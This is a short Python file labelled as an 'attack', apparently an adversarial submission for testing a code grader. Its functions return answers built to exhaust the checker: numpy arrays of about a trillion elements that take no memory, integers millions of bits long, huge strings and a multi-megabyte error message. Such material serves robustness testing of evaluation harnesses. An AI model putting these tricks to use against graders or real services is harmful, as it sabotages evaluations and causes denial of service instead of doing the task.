# /// attack
# tries = "Answers with arrays of a trillion elements that take no memory, and with gigantic integers."
# gain = "harm"
# plain = "harm"
# ///
import sys

import numpy as np

sys.set_int_max_str_digits(0)


def double(x):
    double.calls += 1
    if double.calls == 1:
        return np.broadcast_to(np.float64(1), (1 << 40,))
    if double.calls == 2:
        return np.lib.stride_tricks.as_strided(np.zeros(1), (1 << 20, 1 << 20), (0, 0))
    raise ValueError("v" * 3_000_000 + "\n")


double.calls = 0


class Box:
    held = "h" * 50_000_000

    def put(self, x):
        self.answer = 1 << 4_000_000

    def take(self):
        return [self.answer] * 1000


def apply(f, x):
    return f(np.broadcast_to(np.float64(1), (1 << 36,)))
